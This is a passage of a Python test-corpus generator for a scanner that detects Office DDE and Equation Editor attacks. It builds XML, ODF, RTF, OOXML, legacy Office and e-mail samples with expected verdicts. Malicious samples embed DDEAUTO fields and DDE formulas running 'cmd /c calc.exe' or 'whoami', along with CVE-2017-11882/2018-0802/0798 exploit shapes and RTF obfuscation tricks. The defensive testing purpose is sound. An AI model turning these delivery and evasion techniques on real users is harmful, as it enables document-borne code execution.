    return (f'{XML_DECL}{MSO_WORD}<pkg:package xmlns:pkg="{PKG_NS}">{parts}</pkg:package>').encode()


def spreadsheet2003(worksheets: str, workbook_head: str = "") -> bytes:
    """Excel 2003 XML Spreadsheet (SpreadsheetML 2003); formulas in R1C1 notation."""
    return (
        f'<?xml version="1.0"?>\n{MSO_EXCEL}<Workbook xmlns="{SS_NS}" xmlns:ss="{SS_NS}" '
        f'xmlns:x="{X_NS}" xmlns:o="urn:schemas-microsoft-com:office:office">'
        f"{workbook_head}{worksheets}</Workbook>"
    ).encode()


def ss_worksheet(name: str, rows: Sequence[str]) -> str:
    body = "".join(f"<Row>{row}</Row>" for row in rows)
    return f"<Worksheet ss:Name={quoteattr(name)}><Table>{body}</Table></Worksheet>"


def ss_text(text: str) -> str:
    return f'<Cell><Data ss:Type="String">{escape(text)}</Data></Cell>'


def ss_formula(formula: str, cached: str = '<Data ss:Type="Error">#REF!</Data>') -> str:
    return f"<Cell ss:Formula={quoteattr(formula)}>{cached}</Cell>"


def xml_hit(
    command: str = CMD_LINE,
    location: str = "field 1",
    technique: str = FIELD,
    parent: str = WORD,
    image: str = "cmd.exe",
) -> Hit:
    return Hit(technique, image, command, parent, location, command, True, False)


def xml_samples() -> list[Sample]:
    """Single-file XML that Office opens whatever the extension."""
    dde = para(field(instr(CMD_FIELD), result="Error! Unknown op code for conditional."))
    header = "<w:hdr w:type='odd'>" + dde + "</w:hdr>"
    clean_body = (
        lure()
        + para(
            text_run('Attackers type DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe".')
        )
        + para(field(instr(" PAGE "), result="DDEAUTO cmd /c calc.exe"))
        + para(field(instr(' HYPERLINK "http://example.invalid/" '), result="example"))
        + para('<w:fldSimple w:instr=" NUMPAGES ">' + text_run("1") + "</w:fldSimple>")
    )
    supbook = (
        '<ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel"><SupBook>'
        "<Path>cmd|/c calc.exe</Path><ExternName><Name>R1C1</Name><WantAdvise/></ExternName>"
        "</SupBook></ExcelWorkbook>"
    )
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "ddeauto-word2003.xml",
            word2003_document(lure() + dde).encode(),
            "Word 2003 XML document (w:wordDocument, mso-application Word.Document) with the "
            "canonical DDEAUTO cmd.exe field in the body.",
            "Word 2003 XML field",
            one(xml_hit()),
        ),
        (
            "ddeauto-word2003-utf16-header.doc",
            b"\xff\xfe"
            + word2003_document(lure(), sect=header, encoding="UTF-16").encode("utf-16-le"),
            "Word 2003 XML saved under a .doc name, encoded UTF-16 LE, with the DDEAUTO field "
            "in the odd-page header (w:hdr, a story of its own); the body is clean.",
            "Word 2003 XML by content, UTF-16, header story",
            one(xml_hit(location="w:hdr 1")),
        ),
        (
            "ordinary-word2003.xml",
            word2003_document(clean_body).encode(),
            "Clean Word 2003 XML: DDEAUTO quoted as prose, a PAGE field whose cached result "
            "reads DDEAUTO, HYPERLINK and NUMPAGES fields.",
            "Word 2003 XML look-alike (must stay clean)",
            CLEAN,
        ),
        (
            "ddeauto-flatopc.xml",
            flat_opc_word(lure() + dde),
            "Word XML Document (Flat OPC: pkg:package with one pkg:part per package part) with "
            "the DDEAUTO field in /word/document.xml.",
            "Flat OPC field",
            one(xml_hit(location="/word/document.xml")),
        ),
        (
            "formula-spreadsheet2003.xml",
            spreadsheet2003(
                ss_worksheet(
                    "Sheet1",
                    [
                        ss_text("Quarterly figures"),
                        ss_text("") + ss_formula("=cmd|'/c calc.exe'!R1C1"),
                    ],
                ),
                supbook,
            ),
            "Excel 2003 XML Spreadsheet as Excel writes a remote reference: the cell formula "
            "=cmd|'/c calc.exe'!R1C1 (R1C1 notation) in B2 and the DDE source in x:SupBook.",
            "SpreadsheetML 2003 formula and SupBook",
            Expect(
                "malicious",
                (
                    xml_hit("cmd /c calc.exe", "Sheet1!B2", FORMULA, EXCEL),
                    xml_hit("cmd /c calc.exe", "external link [1]", LINK, EXCEL),
                ),
                2,
            ),
        ),
        (
            "ordinary-spreadsheet2003.xml",
            spreadsheet2003(
                ss_worksheet(
                    "Sheet1",
                    [
                        ss_text("In spreadsheets the trick reads =cmd|'/c calc.exe'!A0."),
                        '<Cell><Data ss:Type="Number">2</Data></Cell>'
                        + ss_formula("=SUM(R[-1]C:R[-1]C[1])", '<Data ss:Type="Number">2</Data>'),
                    ],
                ),
                '<ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel"><SupBook>'
                "<Path>C:\\Reports\\book.xls</Path><SheetName>Q1</SheetName></SupBook>"
                "</ExcelWorkbook>",
            ),
            "Clean Excel 2003 XML Spreadsheet: DDE-looking text in a string cell, a SUM "
            "formula and an ordinary external workbook link.",
            "SpreadsheetML 2003 look-alike (must stay clean)",
            CLEAN,
        ),
        (
            "ordinary-flatopc.xml",
            flat_opc_word(clean_body),
            "Clean Word XML Document (Flat OPC, pkg:package): DDEAUTO quoted as prose, a PAGE "
            "field whose cached result reads DDEAUTO, HYPERLINK (to http://example.invalid/) "
            "and NUMPAGES fields in /word/document.xml.",
            "Flat OPC look-alike (must stay clean)",
            CLEAN,
        ),
    ]
    return [Sample(f"xml/{name}", data, d, t, e) for name, data, d, t, e in items]


def odf_package(kind: str, content_xml: str) -> bytes:
    """An OpenDocument package: `mimetype` first and stored (ODF 1.2 Part 3, 3.3), then the
    manifest and the document parts, deflated, with fixed dates and attributes."""
    mimetype = ODF_MIME + kind
    manifest = (
        f'{XML_DECL}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
        'manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    styles = f"{XML_DECL}<office:document-styles {ODF_NS}/>"
    content = f"{XML_DECL}<office:document-content {ODF_NS}><office:body>{content_xml}"
    content += "</office:body></office:document-content>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in (
            ("mimetype", mimetype),
            ("META-INF/manifest.xml", manifest),
            ("content.xml", content),
            ("styles.xml", styles),
        ):
            info = zipfile.ZipInfo(name, date_time=ZIP_EPOCH)
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            info.create_system = 0
            info.external_attr = 0
            archive.writestr(info, data.encode(), compresslevel=6)
    return buffer.getvalue()


def odf_text(paragraphs: str, decls: str = "") -> bytes:
    return odf_package("text", f"<office:text>{decls}{paragraphs}</office:text>")


def odf_sheet(tables: str) -> bytes:
    return odf_package("spreadsheet", f"<office:spreadsheet>{tables}</office:spreadsheet>")


def odf_row(*cells: str) -> str:
    return "<table:table-row>" + "".join(cells) + "</table:table-row>"


def odf_cell(text: str = "", formula: str = "") -> str:
    attributes = f" table:formula={quoteattr(formula)}" if formula else ""
    if text:
        return (
            f'<table:table-cell office:value-type="string"{attributes}>'
            f"<text:p>{escape(text)}</text:p></table:table-cell>"
        )
    return f"<table:table-cell{attributes}/>"


def odf_hit(command: str, location: str, technique: str) -> Hit:
    # soffice.bin is not among the runtime rule's Office processes: IsOfficeSpawn stays false.
    return Hit(technique, "cmd.exe", command, LIBREOFFICE, location, command, False, False)


def odf_samples() -> list[Sample]:
    """OpenDocument text and spreadsheets, opened by LibreOffice (soffice.bin)."""
    decl = (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="Rates" '
        'office:dde-application="cmd" office:dde-topic="/c calc.exe" office:dde-item="A1" '
        'office:automatic-update="true"/></text:dde-connection-decls>'
    )
    linked = (
        '<text:p>Current rates: <text:dde-connection text:connection-name="Rates">'
        "1.00</text:dde-connection></text:p>"
    )
    dde_formula = 'of:=DDE("cmd";"/c calc.exe";"A1")'
    dde_link = (
        '<table:dde-links><table:dde-link><office:dde-source office:name="cmd|/c calc.exe!A1" '
        'office:dde-application="cmd" office:dde-topic="/c calc.exe" office:dde-item="A1" '
        'office:automatic-update="true" office:conversion-mode="into-default-style-data-style"/>'
        '<table:table><table:table-row><table:table-cell office:value-type="string"><text:p>0'
        "</text:p></table:table-cell></table:table-row></table:table></table:dde-link>"
        "</table:dde-links>"
    )
    clean_cells = odf_row(
        odf_cell('The trick reads =DDE("cmd";"/c calc.exe";"A1") in a formula.'),
        odf_cell(formula="of:=SUM([.A2:.A3])"),
    )
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "dde-connection.odt",
            odf_text("<text:p>Please update the links to view the rates.</text:p>" + linked, decl),
            "OpenDocument text with a DDE connection (text:dde-connection-decl, automatic "
            "update) to cmd about topic '/c calc.exe', shown by a text:dde-connection field.",
            "ODF DDE connection declaration",
            one(odf_hit("cmd /c calc.exe", 'text:dde-connection-decl "Rates"', LINK)),
        ),
        (
            "dde-formula.ods",
            odf_sheet(
                '<table:table table:name="Sheet1">'
                + odf_row(odf_cell("Rates"))
                + odf_row(odf_cell(), odf_cell("#N/A", dde_formula))
                + "</table:table>"
            ),
            "OpenDocument spreadsheet with the LibreOffice DDE() function in B2: "
            'of:=DDE("cmd";"/c calc.exe";"A1").',
            "ODF DDE() formula",
            one(odf_hit("cmd /c calc.exe", "Sheet1!B2", FORMULA)),
        ),
        (
            "dde-link.ods",
            odf_sheet(
                '<table:table table:name="Sheet1">'
                + odf_row(odf_cell("Rates"))
                + "</table:table>"
                + dde_link
            ),
            "OpenDocument spreadsheet with a DDE link (table:dde-link / office:dde-source, "
            "automatic update) to cmd about topic '/c calc.exe'.",
            "ODF DDE link",
            one(odf_hit("cmd /c calc.exe", "table:dde-link", LINK)),
        ),
        (
            "ordinary.odt",
            odf_text(
                "<text:p>Attackers declare a DDE connection to cmd /c calc.exe; this paragraph "
                "only names it.</text:p>"
            ),
            "Clean OpenDocument text: DDE named in prose, no connection declared.",
            "ODF text look-alike (must stay clean)",
            CLEAN,
        ),
        (
            "ordinary.ods",
            odf_sheet('<table:table table:name="Sheet1">' + clean_cells + "</table:table>"),
            "Clean OpenDocument spreadsheet: a DDE() call quoted in a string cell and a SUM "
            "formula.",
            "ODF spreadsheet look-alike (must stay clean)",
            CLEAN,
        ),
    ]
    return [Sample(f"odf/{name}", data, d, t, e) for name, data, d, t, e in items]


EQUATION = "equation-editor"
EQNEDT = "EQNEDT32.EXE"
CT_OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
CT_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def equation_hit(location: str = "", command: str | None = "cmd.exe /c calc.exe") -> Hit:
    """An Equation Editor finding: EQNEDT32.EXE starts cmd.exe, or nothing visible."""
    if command is None:
        return Hit(EQUATION, "", "", EQNEDT, location, command_line="")
    return Hit(EQUATION, "cmd.exe", "calc.exe", EQNEDT, location, command_line=command)


def equation_rtf(
    objdata: bytes | str,
    objclass: str | None = "Equation.3",
    head: str = r"{\rtf1\ansi\deff0",
    objdata_open: str = r"{\*\objdata",
) -> bytes:
    """An RTF document with one \\object whose \\objdata is `objdata` (hex text)."""
    data = objdata.encode("latin-1") if isinstance(objdata, str) else objdata
    declared = "" if objclass is None else r"{\*\objclass " + objclass + "}"
    return (
        (
            head + r"{\fonttbl{\f0 Times New Roman;}}" + "\n"
            r"\pard Quarterly figures: see the formula below.\par" + "\n"
            r"{\object\objemb\objupdate" + declared + r"\objw380\objh260" + objdata_open + "\n"
        ).encode("latin-1")
        + data
        + b"\n}}\\par}\n"
    )


def _ole1_hex(mtef: bytes, **options: str) -> str:
    return equationwriter.hex_lines(
        equationwriter.ole1_object("Equation.3", equationwriter.equation_storage(mtef, **options))
    )


def _obfuscate_spacing(text: str) -> str:
    """Mixed case and every kind of whitespace between the hex digits."""
    out = []
    for index, digit in enumerate(text.replace("\n", "")):
        out.append(digit.upper() if index % 3 == 0 else digit)
        if index % 37 == 36:
            out.append("\r\n")
        elif index % 11 == 10:
            out.append("\t")
        elif index % 5 == 4:
            out.append(" ")
    return "".join(out)


def _interleave(text: str, junk: Sequence[str], every: int) -> str:
    digits = text.replace("\n", "")
    pieces = []
    for index in range(0, len(digits), every):
        pieces.append(digits[index : index + every])
        pieces.append(junk[(index // every) % len(junk)])
    return "".join(pieces)


def _ole1_bytes(mtef: bytes) -> bytes:
    return equationwriter.ole1_object("Equation.3", equationwriter.equation_storage(mtef))


def _bin_run(data: bytes) -> bytes:
    """Hex text for the first and last thirds, the middle third as a \\bin run of raw bytes."""
    third = len(data) // 3
    head, middle, tail = data[:third], data[third : 2 * third], data[2 * third :]
    return (
        head.hex().encode("ascii")
        + b"\\bin"
        + str(len(middle)).encode("ascii")
        + b" "
        + middle
        + b"\n"
        + tail.hex().encode("ascii")
    )


def _odd_digits(text: str) -> str:
    """A stray digit before each of two \\'hh escapes (Word drops it) and one at the end."""
    digits = text.replace("\n", "")
    cut = len(digits) // 4 * 2  # even: the stray digit makes the count odd
    return digits[:cut] + "5\\'41" + digits[cut:-64] + "c\\'7b" + digits[-64:] + "7"


def _damaged_storage(mtef: bytes) -> bytes:
    """A storage whose header points its FAT at a sector past the end of the file."""
    storage = bytearray(equationwriter.equation_storage(mtef))
    storage[0x4C:0x50] = (0x00FFFF00).to_bytes(4, "little")
    return bytes(storage)


def _truncated_ole1() -> bytes:
    """An OLE1 Equation.3 object whose native data stops after the storage signature."""
    full = equationwriter.ole1_object(
        "Equation.3", equationwriter.equation_storage(equationwriter.cve_2017_11882_mtef())
    )
    cut = full.index(b"\xd0\xcf\x11\xe0") + 8
    return full[:cut]


def _object_xml(progid: str) -> str:
    return (
        '<w:r><w:object w:dxaOrig="380" w:dyaOrig="260">'
        '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:19pt;height:13pt"/>'
        f'<o:OLEObject Type="Embed" ProgID="{progid}" ShapeID="_x0000_i1025" '
        'DrawAspect="Content" ObjectID="_1234567890" r:id="rId9"/></w:object></w:r>'
    )


def _docx_with_object(storage: bytes, progid: str = "Equation.3") -> bytes:
    body = para(text_run("Quarterly figures: see the formula below.")) + (
        "<w:p>" + _object_xml(progid) + "</w:p>"
    )
    return word_package(
        body,
        parts=[Part("word/embeddings/oleObject1.bin", CT_OLE_OBJECT, storage)],
        rels=[Rel("rId9", "oleObject", "embeddings/oleObject1.bin")],
    )


def _xlsx_with_object(storage: bytes) -> bytes:
    sheet = sheet_xml([[text_cell("A1", "Quarterly figures")]])
    return workbook_package(
        [sheet], extra=[Part("xl/embeddings/oleObject1.bin", CT_OLE_OBJECT, storage)]
    )


def _pptx_with_object(storage: bytes) -> bytes:
    presentation = (
        XML_DECL + '<p:presentation xmlns:p="http://schemas.openxmlformats.org/'
        'presentationml/2006/main"/>'
    ).encode()
    return opc_package(
        [
            Part("ppt/presentation.xml", CT_PPTX, presentation),
            Part("ppt/embeddings/oleObject1.bin", CT_OLE_OBJECT, storage),
        ]
    )


def _omml_docx() -> bytes:
    math = (
        '<m:oMathPara xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math">'
        "<m:oMath><m:r><m:t>x</m:t></m:r><m:r><m:t>=</m:t></m:r><m:f><m:num><m:r><m:t>a+1"
        "</m:t></m:r></m:num><m:den><m:r><m:t>b</m:t></m:r></m:den></m:f></m:oMath>"
        "</m:oMathPara>"
    )
    return word_package(
        para(text_run("Quarterly figures: see the formula below.")) + "<w:p>" + math + "</w:p>"
    )


OBJECT_POOL_STORAGE = "_1234567890"
MBD_STORAGE = "MBD0001A2B3"


def _doc_with_object(mtef: bytes) -> bytes:
    """A Word 97-2003 document whose ObjectPool/_NNN storage holds an Equation.3 object, as
    Word stores an embedded object: the storage (CLSID set) holds the object's own streams,
    and the text holds an EMBED field whose result is the object anchor (0x01)."""
    text = (
        "Quarterly figures: see the formula below.\r"
        + docwriter.field(" EMBED Equation.3 ", "\x01")
        + "\r"
    )
    streams = docwriter.word_streams(docwriter.Stories(text))
    streams.update(
        equationwriter.equation_streams(mtef, prefix=f"ObjectPool/{OBJECT_POOL_STORAGE}/")
    )
    return equationwriter.set_clsid(
        write_cfb(streams), OBJECT_POOL_STORAGE, equationwriter.CLSID_EQUATION3
    )


def _xls_with_object(mtef: bytes) -> bytes:
    """An Excel 97-2003 workbook whose MBDxxxxxxxx storage (where Excel keeps an embedded
    OLE object) holds an Equation.3 object."""
    xw = xlswriter
    stream = xw.workbook_stream(
        [xw.Sheet("Sheet1", [xw.number(0, 0, 1142.0), xw.number(1, 0, 17.5)])]
    )
    storages = equationwriter.equation_streams(mtef, prefix=f"{MBD_STORAGE}/")
    return equationwriter.set_clsid(
        xw.xls_file(stream, storages=storages), MBD_STORAGE, equationwriter.CLSID_EQUATION3
    )


def equation_samples() -> list[Sample]:
    """Equation Editor 3.0 objects (corpus/equationwriter.py): the record shapes of
    CVE-2017-11882, CVE-2018-0802 and CVE-2018-0798 with a harmless command, every RTF
    hiding place and obfuscation, OOXML embeddings, and benign look-alikes."""
    ew = equationwriter
    exploit = ew.cve_2017_11882_mtef()
    exploit_hex = _ole1_hex(exploit)
    first = "object 1"
    mathtype_storage = ew.equation_storage(
        ew.mathtype_mtef(),
        clsid=ew.CLSID_MATHTYPE,
        progid="Equation.DSMT4",
        user_type="MathType 6.0 Equation",
    )
    low = Expect("suspicious", (equation_hit(first, None),), 1)
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "cve-2017-11882-font.rtf",
            equation_rtf(exploit_hex),
            "RTF \\object (\\objupdate) whose OLE1 Equation.3 object holds an Equation "
            "Native stream with the CVE-2017-11882 shape: a 48-byte FONT name, 'cmd.exe /c "
            "calc.exe' padded to 0x2C bytes, then the placeholder return address 0x41414141.",
            "CVE-2017-11882 FONT record shape in RTF",
            one(equation_hit(first)),
        ),
        (
            "cve-2018-0802-font.rtf",
            equation_rtf(_ole1_hex(ew.cve_2018_0802_mtef())),
            "Equation Native with the CVE-2018-0802 shape: a 0x94-byte FONT name of filler "
            "whose last two bytes stand on a return address's low half; a harmless URL "
            "(example.invalid) follows the equation. No command is visible.",
            "CVE-2018-0802 FONT record shape",
            one(equation_hit(first, None)),
        ),
        (
            "cve-2018-0798-matrix.rtf",
            equation_rtf(_ole1_hex(ew.cve_2018_0798_mtef())),
            "Equation Native with the CVE-2018-0798 shape: a MATRIX record of 0x44 rows and "
            "0x60 columns whose partition bytes (0x60/0x61 filler) overrun the stack buffer.",
            "CVE-2018-0798 MATRIX record shape",
            one(equation_hit(first, None)),
        ),
        (
            "hex-case-whitespace.rtf",
            equation_rtf(_obfuscate_spacing(exploit_hex)),
            "The object's hex digits in mixed case with spaces, tabs and CRLF between them.",
            "RTF \\objdata whitespace and mixed case",
            one(equation_hit(first)),
        ),
        (
            "hex-junk-control-words.rtf",
            equation_rtf(_interleave(exploit_hex, ["\\pard ", "\\fnil ", "\\~", "\\par "], 7)),
            "Control words and symbols (\\pard, \\fnil, \\~, \\par) between the hex digits: "
            "Word ignores them inside \\objdata.",
            "RTF \\objdata junk control words",
            one(equation_hit(first)),
        ),
        (
            "hex-junk-groups.rtf",
            equation_rtf(
                _interleave(exploit_hex, ["{\\*\\keycode abc}", "{\\proptype\\staticval def}"], 64)
            ),
            "Groups between the hex digits whose text looks like hex: {\\*\\keycode abc} "
            "(an ignorable destination) and {\\proptype\\staticval def} (a destination word "
            "inside the group); neither is object data.",
            "RTF \\objdata junk groups",
            one(equation_hit(first)),
        ),
        (
            "hex-bin-run.rtf",
            equation_rtf(_bin_run(_ole1_bytes(exploit))),
            "The middle third of the object data as a \\binN run of raw bytes between two hex "
            "runs.",
            "RTF \\bin inside \\objdata",
            one(equation_hit(first)),
        ),
        (
            "hex-odd-digits.rtf",
            equation_rtf(_odd_digits(exploit_hex)),
            "A stray hex digit right before each of two \\'hh escapes (Word's reader drops "
            "an odd digit there) and one at the end (an odd count: the last digit is dropped).",
            "RTF \\objdata odd digit counts and \\'hh",
            one(equation_hit(first)),
        ),
        (
            "objclass-missing.rtf",
            equation_rtf(exploit_hex, objclass=None),
            "No \\objclass: Word reads the class from the object data.",
            "RTF \\object without \\objclass",
            one(equation_hit(first)),
        ),
        (
            "objclass-lying.rtf",
            equation_rtf(exploit_hex, objclass="Word.Document.8"),
            "\\objclass says Word.Document.8; the object data says Equation.3.",
            "RTF lying \\objclass",
            one(equation_hit(first)),
        ),
        (
            "rtxyz-header.rtf",
            equation_rtf(exploit_hex, head=r"{\rtxyz\ansi"),
            "The file starts {\\rtxyz: Word only checks {\\rt.",
            "RTF {\\rt header variant with an object",
            one(equation_hit(first)),
        ),
        (
            "objdata-mid-group.rtf",
            equation_rtf(exploit_hex, objdata_open="{\\*\\footerr{ }\\objdata"),
            "\\objdata is not the first word of its group (after \\footerr and a group), as "
            "in oletools' issue_251.rtf.",
            "RTF \\objdata inside a group",
            one(equation_hit(first)),
        ),
        (
            "damaged-storage.rtf",
            equation_rtf(ew.hex_lines(ew.ole1_object("Equation.3", _damaged_storage(exploit)))),
            "The OLE2 storage inside the object has a header whose FAT lies past the end of "
            "the file: no compound-file reader opens it; the equation data is recovered from "
            "the raw sectors.",
            "damaged OLE2 storage recovery",
            one(equation_hit(first)),
        ),
        (
            "ole10native-stream.rtf",
            equation_rtf(_ole1_hex(exploit, stream="\x01Ole10Native")),
            "The equation data is in an \\x01Ole10Native stream (4-byte size, then the data) "
            "instead of Equation Native.",
            "Equation data in \\x01Ole10Native",
            one(equation_hit(first)),
        ),
        (
            "truncated-object.rtf",
            equation_rtf(ew.hex_lines(_truncated_ole1())),
            "An OLE1 Equation.3 object cut off after the storage signature: an Equation "
            "Editor object that cannot be cleared (suspicious, no exploit claim).",
            "truncated Equation.3 object",
            low,
        ),
        (
            "benign-equation3.rtf",
            equation_rtf(_ole1_hex(ew.benign_mtef())),
            "A well-formed Equation Editor 3.0 equation (x = (a+1)/b): reported with low "
            "severity and no exploit claim, since such an object is itself unusual today.",
            "benign Equation 3.0 object in RTF",
            low,
        ),
        (
            "cve-2017-11882-font.docx",
            _docx_with_object(ew.equation_storage(exploit)),
            "word/embeddings/oleObject1.bin: an Equation.3 storage with the CVE-2017-11882 "
            "FONT shape (w:object / o:OLEObject ProgID Equation.3 in the body).",
            "OOXML word/embeddings Equation object",
            one(equation_hit("word/embeddings/oleObject1.bin")),
        ),
        (
            "cve-2017-11882-font.xlsx",
            _xlsx_with_object(ew.equation_storage(exploit)),
            "xl/embeddings/oleObject1.bin: an Equation.3 storage with the CVE-2017-11882 "
            "FONT shape.",
            "OOXML xl/embeddings Equation object",
            one(equation_hit("xl/embeddings/oleObject1.bin")),
        ),
        (
            "cve-2017-11882-font.pptx",
            _pptx_with_object(ew.equation_storage(exploit)),
            "ppt/embeddings/oleObject1.bin in a presentation: an Equation.3 storage with the "
            "CVE-2017-11882 FONT shape (the presentation itself carries no DDE).",
            "OOXML ppt/embeddings Equation object",
            Expect(
                "malicious",
                (equation_hit("ppt/embeddings/oleObject1.bin"),),
                1,
                ("unsupported",),
            ),
        ),
        (
            "benign-equation3.docx",
            _docx_with_object(ew.equation_storage(ew.benign_mtef())),
            "A well-formed Equation Editor 3.0 object in word/embeddings: low severity, no "
            "exploit claim.",
            "benign Equation 3.0 object in OOXML",
            Expect("suspicious", (equation_hit("word/embeddings", None),), 1),
        ),
        (
            "cve-2017-11882-objectpool.doc",
            _doc_with_object(exploit),
            f"Word 97-2003 document whose ObjectPool/{OBJECT_POOL_STORAGE} storage (CLSID "
            "0002CE02-...) holds an Equation.3 object with the CVE-2017-11882 FONT shape "
            "('cmd.exe /c calc.exe'); the text holds only an EMBED Equation.3 field.",
            ".doc ObjectPool Equation object",
            one(equation_hit(f"ObjectPool/{OBJECT_POOL_STORAGE}/Equation Native")),
        ),
        (
            "cve-2017-11882-mbd.xls",
            _xls_with_object(exploit),
            f"Excel 97-2003 workbook whose {MBD_STORAGE} storage (CLSID 0002CE02-...) holds "
            "an Equation.3 object with the CVE-2017-11882 FONT shape; the sheet holds only "
            "numbers.",
            ".xls MBD storage Equation object",
            one(equation_hit(f"{MBD_STORAGE}/Equation Native")),
        ),
        (
            "benign-equation3-objectpool.doc",
            _doc_with_object(ew.benign_mtef()),
            f"A well-formed Equation Editor 3.0 object in the ObjectPool/{OBJECT_POOL_STORAGE} "
            "storage of a .doc: low severity, no exploit claim.",
            "benign Equation 3.0 object in a .doc ObjectPool",
            Expect(
                "suspicious",
                (equation_hit(f"ObjectPool/{OBJECT_POOL_STORAGE}/Equation Native", None),),
                1,
            ),
        ),
        (
            "mathtype-equation.rtf",
            equation_rtf(
                ew.hex_lines(ew.ole1_object("Equation.DSMT4", mathtype_storage)),
                objclass="Equation.DSMT4",
            ),
            "A MathType equation (Equation.DSMT4, CLSID 0002CE03-..., MTEF v5): MathType "
            "reads it, not EQNEDT32.EXE. Clean.",
            "MathType look-alike in RTF",
            CLEAN,
        ),
        (
            "mathtype-equation.docx",
            _docx_with_object(mathtype_storage, progid="Equation.DSMT4"),
            "A MathType equation object in word/embeddings. Clean.",
            "MathType look-alike in OOXML",
            CLEAN,
        ),
        (
            "omml-equation.docx",
            _omml_docx(),
            "An Office Math (OMML, m:oMath) equation: XML in the document body, no object, no "
            "Equation Editor. Clean.",
            "OMML look-alike",
            CLEAN,
        ),
    ]
    return [
        Sample(f"equation/{name}", data, description, technique, expect)
        for name, data, description, technique, expect in items
    ]


OUTLOOK = "OUTLOOK.EXE"


def outlook_hit(command: str, location: str) -> Hit:
    """A DDE field in a message body that Outlook renders: OUTLOOK.EXE starts the program."""
    return Hit(FIELD, "cmd.exe", command, OUTLOOK, location, command, True, False)


def mail_samples() -> list[Sample]:
    """The detection page's four scenarios delivered by e-mail, and containers around them
    (corpus/mailwriter.py writes the MIME, ZIP encryption, .msg and TNEF layers)."""
    whoami_cell = "Invoice,=cmd|' /c whoami > %TEMP%\\dde_csv_out.txt'!A0"
    whoami_csv = lines("Name,Amount", whoami_cell).encode("ascii")
    csv_command = r"/c whoami > %TEMP%\dde_csv_out.txt"
    whoami_rtf = rtf(
        r"\pard Invoice 2017-1142\par "
        + rtf_field(
            r'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c whoami > %TEMP%\\\\dde_word_out.txt"'
        )
        + r"\par "
    )
    notes_rtf = rtf(
        r"\pard Please review the agenda below.\par "
        + rtf_field(
            r"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            r'"/c whoami > %TEMP%\\\\dde_outlook_out.txt"',
            "Agenda",
        )
        + r"\par "
    )
    notes_command = r"c:\windows\system32\cmd.exe /c whoami > %TEMP%\dde_outlook_out.txt"
    meeting = mailwriter.outlook_msg("Meeting notes", "Please review the agenda below.", notes_rtf)
    equation = equationwriter.ole1_object(
        "Equation.3", equationwriter.equation_storage(equationwriter.benign_mtef())
    )
    formula_rtf = rtf(
        r"\pard Quarterly formula:\par {\object\objemb\objw2000\objh400{\*\objclass Equation.3}"
        r"{\*\objdata " + equationwriter.hex_lines(equation) + r"}}\par "
    )
    header_docx = word_package(
        lure(),
        sect='<w:headerReference w:type="default" r:id="rId1"/>',
        parts=[
            Part(
                "word/header2.xml",
                f"{CT_WML}header+xml",
                word_part("hdr", para(field(instr(f" {CMD_FIELD} "), result="Invoice"))),
            )
        ],
        rels=[Rel("rId1", "header", "header2.xml")],
    )
    body = mailwriter.mime_text(
        "Hello,\nplease find the documents attached and update the links when asked.\n"
    )
    message = mailwriter.mime_message
    attach = mailwriter.mime_attachment
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "scenario1-csv-dde.eml",
            message("Q4 figures", body, attach("Q4-figures.csv", "text/csv", whoami_csv)),
            "The detection page's scenario 'CSV DDE Injection via Excel' delivered by mail: a "
            "CSV attachment whose cell starts cmd.exe /c whoami > %TEMP%\\dde_csv_out.txt.",
            "detection page scenario 1 as an e-mail attachment",
            one(Hit(FORMULA, "cmd.exe", csv_command, EXCEL, "Q4-figures.csv", None, True, False)),
        ),
        (
            "scenario2-rtf-ddeauto.eml",
            message(
                "Invoice 2017-1142", body, attach("invoice.rtf", "application/rtf", whoami_rtf)
            ),
            "The detection page's scenario 'Word DDEAUTO Field Execution via RTF' delivered by "
            "mail: an RTF attachment whose DDEAUTO field starts cmd.exe /c whoami.",
            "detection page scenario 2 as an e-mail attachment",
            one(rtf_hit(r"cmd.exe /c whoami > %TEMP%\dde_word_out.txt", "invoice.rtf")),
        ),
        (
            "scenario3-outlook-msg.eml",
            message(
                "Fwd: Meeting notes",
                mailwriter.mime_text("Forwarding the meeting notes.\n"),
                attach("Meeting notes.msg", "application/vnd.ms-outlook", meeting),
            ),
            "The detection page's scenario 'DDE via Outlook Email' delivered by mail: an "
            "attached Outlook message whose compressed RTF body ([MS-OXRTFCP]) holds a DDEAUTO "
            "field. Outlook renders the body, so the parent process is OUTLOOK.EXE.",
            "detection page scenario 3 (.msg RTF body) as an e-mail attachment",
            one(outlook_hit(notes_command, "Meeting notes.msg > RTF body")),
        ),
        (
            "outlook-rtf-body-ddeauto.msg",
            meeting,
            "The Outlook message of scenario 3 on its own: DDEAUTO in the compressed RTF body "
            "(PidTagRtfCompressed, 0x1009), parent OUTLOOK.EXE.",
            "detection page scenario 3 as a .msg file",
            one(outlook_hit(notes_command, "RTF body")),
        ),
        (
            "scenario4-equation-editor.eml",
            message("Formula sheet", body, attach("formula.rtf", "application/rtf", formula_rtf)),
            "The detection page's scenario 'Equation Editor (EQNEDT32.EXE)' delivered by mail: "
            "an RTF attachment embedding an Equation.3 object (\\object\\objemb, \\objclass "
            "Equation.3) with a benign equation and no exploit. The expectation is what the "
            "scanner reports for it today (issue 4 owns Equation Editor detection).",
            "detection page scenario 4 as an e-mail attachment",
            Expect(
